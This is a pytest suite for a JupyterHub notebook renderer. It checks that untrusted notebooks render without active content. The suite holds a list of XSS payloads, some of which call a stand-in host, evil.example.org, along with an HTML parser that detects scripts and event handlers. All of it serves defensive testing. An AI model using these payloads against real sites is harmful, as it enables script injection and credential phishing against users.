"""Notebooks of strangers as pages: what is shown, and that nothing in them does anything."""

from __future__ import annotations

import json
import re
from html.parser import HTMLParser
from typing import Any

import pytest

from jupyterhub_ha_share.render import NOT_SHOWN, NoNotebookError, checked, cleaned, rendered

PIXEL = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk"
    "+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)


def notebook(*cells: dict[str, Any], **metadata: Any) -> bytes:
    document = {"cells": list(cells), "metadata": metadata, "nbformat": 4, "nbformat_minor": 5}
    return json.dumps(document).encode()


def markdown(source: str, **more: Any) -> dict[str, Any]:
    return {"cell_type": "markdown", "id": "m", "metadata": {}, "source": source, **more}


def code(*outputs: dict[str, Any], source: str = "1", **metadata: Any) -> dict[str, Any]:
    cell = {"cell_type": "code", "id": "c", "metadata": metadata, "source": source}
    return {**cell, "execution_count": 1, "outputs": list(outputs)}


def shows(**data: Any) -> dict[str, Any]:
    kinds = {key.replace("__", "/"): value for key, value in data.items()}
    return {"output_type": "display_data", "metadata": {}, "data": kinds}


def page(*cells: dict[str, Any]) -> str:
    return rendered(checked(notebook(*cells)))


class Active(HTMLParser):
    """Finds what in a page does something, as a browser reads it."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in {"script", "style", "iframe", "object", "embed", "form", "input", "svg", "math",
                   "link", "meta", "base", "template", "video", "audio", "noscript"}:  # fmt: skip
            self.found.append(tag)
        for name, value in attrs:
            plain = re.sub(r"[\x00-\x20]", "", value or "").lower()
            if name.startswith("on") or name in {"srcdoc", "srcset", "formaction", "xlink:href"}:
                self.found.append(f"{tag} {name}")
            if plain.startswith(("javascript:", "vbscript:", "data:text")):
                self.found.append(f"{tag} {name}={value}")
            if tag == "img" and name == "src" and not plain.startswith("data:image/"):
                self.found.append(f"img {value}")


def active(text: str) -> list[str]:
    parser = Active()
    parser.feed(text)
    return parser.found


HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example.org/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example.org/seen.png'>",
    '<img src="data:text/html,<script>alert(1)</script>">',
    "<b onmouseover='alert(1)'>b</b>",
    "<a href='javascript:alert(1)'>a</a>",
    "<a href=' java\nscript:alert(1)'>a</a>",
    "<a href='&#106;avascript:alert(1)'>a</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>a</a>",
    "[a](javascript:alert(1))",
    "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "![a](javascript:alert(1))",
    "![a](https://evil.example.org/seen.png)",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>a</text></a></svg>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='x.swf'></object><embed src='x.swf'>",
    "<form action='https://evil.example.org'><input name=password></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example.org'>",
    "<base href='https://evil.example.org/'><link rel=stylesheet href='x.css'>",
    "<style>@import 'https://evil.example.org/x.css'; body {display: none}</style>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<template><script>alert(1)</script></template>",
    "<!--><script>alert(1)</script>-->",
    "$\\href{javascript:alert(1)}{a}$ $$<img src=x onerror=alert(1)>$$",
    "```html\n<script>alert(1)</script>\n```",
    "```<img src=x onerror=alert(1)>\ncode\n```",
    "```mermaid\n<img src=x onerror=alert(1)>\n```",
]


@pytest.mark.parametrize("source", HOSTILE)
def test_nothing_in_a_page_does_anything(source: str) -> None:
    outputs = (
        shows(text__html=source),
        shows(text__markdown=source),
        shows(text__plain=source),
        shows(text__latex=source),
        {"output_type": "stream", "name": "stdout", "text": source},
        {"output_type": "error", "ename": source, "evalue": source, "traceback": [source]},
    )
    raw = {"cell_type": "raw", "id": "r", "metadata": {"raw_mimetype": "text/html"}}
    made = page(markdown(source), code(*outputs, source=source), {**raw, "source": source})
    assert active(made) == []


def test_the_guard_finds_what_is_active() -> None:
    assert len(active("<img src=x onerror=y><a href=' JaVa\tscript:1'><script>")) == 4


@pytest.mark.parametrize(
    ("where", "value"),
    [
        ("metadata", {"tags": ["'><script>alert(1)</script>"]}),
        ("id", '"><script>alert(1)</script>'),
    ],
)
def test_what_stands_around_a_cell_does_nothing_either(where: str, value: Any) -> None:
    try:
        made = page(markdown("text", **{where: value}))
    except NoNotebookError:
        return  # an identity that nbformat does not take
    assert active(made) == []
    assert "<script" not in made


@pytest.mark.parametrize(
    "kind",
    [
        "application/javascript",
        "application/vnd.jupyter.widget-view+json",
        "application/vnd.plotly.v1+json",
        "application/vnd.bokehjs_exec.v0+json",
    ],
)
def test_a_program_as_output_is_named_and_not_run(kind: str) -> None:
    made = page(code(shows(**{kind: "alert(1)"})))
    assert NOT_SHOWN in made
    assert "alert" not in made


def test_of_a_program_with_a_text_the_text_is_shown() -> None:
    html = "<div id='plot'></div><script>draw()</script>"
    made = page(code(shows(text__html=html, text__plain="Figure(3)")))
    assert "Figure(3)" in made
    assert "draw()" not in made


def test_what_is_good_is_shown() -> None:
    made = page(
        markdown(
            "# Title\n\n*text* [link](https://example.org) and [below](#Title)\n\n|a|\n|-|\n|1|"
        ),
        code(
            shows(image__png=PIXEL),
            shows(text__html="<table><tr><td style='color: red'>7</td></tr></table>"),
            {"output_type": "stream", "name": "stdout", "text": "\x1b[31mred\x1b[0m"},
            source="print('<b>')",
        ),
    )
    for part in (
        '<h1 id="Title">',
        "<em>text</em>",
        '<a target="_blank" rel="noopener nofollow" href="https://example.org">',
        '<a href="#Title">',
        "<th>a</th>",
        f'src="data:image/png;base64,{PIXEL}',
        '<td style="color: red;">7</td>',
        '<span class="ansi-red-fg">red</span>',
        "&lt;b&gt;",
    ):
        assert part in made, part


def test_a_vector_picture_is_only_a_picture() -> None:
    svg = "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"
    made = page(code(shows(**{"image/svg+xml": svg})))
    assert active(made) == []
    assert "data:image/svg+xml;base64," in made


def test_a_picture_within_markdown_is_shown() -> None:
    cell = markdown("![dot](attachment:dot.png)", attachments={"dot.png": {"image/png": PIXEL}})
    assert f"data:image/png;base64,{PIXEL}" in page(cell)


def test_a_picture_that_is_missing_is_refused_with_its_name() -> None:
    with pytest.raises(NoNotebookError, match=r"missing attachment: dot\.png"):
        page(markdown("![dot](attachment:dot.png)"))


def test_nothing_in_it_says_that_it_may_be_trusted() -> None:
    """Jupyter signs what is saved with it, and runs the scripts of what is signed."""
    given = notebook(
        code(trusted=True), signature="x", kernelspec={"name": "p", "display_name": "P"}
    )
    made = json.dumps(checked(given))
    assert "trusted" not in made
    assert "signature" not in made
    assert "kernelspec" in made


def test_the_same_contents_are_the_same_whatever_the_cells_identities() -> None:
    one, other = markdown("a"), {**markdown("a"), "id": "other"}
    assert checked(notebook(one)) == checked(notebook(other))


def test_an_old_notebook_is_brought_up_to_date() -> None:
    cells = [{"cell_type": "markdown", "metadata": {}, "source": ["a"]}]
    old = {"metadata": {}, "nbformat": 3, "nbformat_minor": 0, "worksheets": [{"cells": cells}]}
    assert "<p>a</p>" in rendered(checked(json.dumps(old).encode()))


@pytest.mark.parametrize(
    ("given", "why"),
    [
        (b"\xff\xfe", "UTF-8"),
        (b"", "cannot be read"),
        (b"[]", "cannot be read"),
        (b"{}", "cannot be read|describes"),
        (b'{"cells": 1, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}', "cannot|describes"),
        (notebook({"cell_type": "code"}), "cannot be read|describes"),
        (notebook({**markdown("a"), "source": 3}), "cannot be read|describes"),
    ],
)
def test_what_is_no_notebook_is_refused_with_the_reason(given: bytes, why: str) -> None:
    with pytest.raises(NoNotebookError, match=why):
        checked(given)


def test_cleaned_keeps_no_address_in_a_style() -> None:
    assert "url(" not in cleaned("<p style='background: url(https://evil.example.org)'>a</p>")
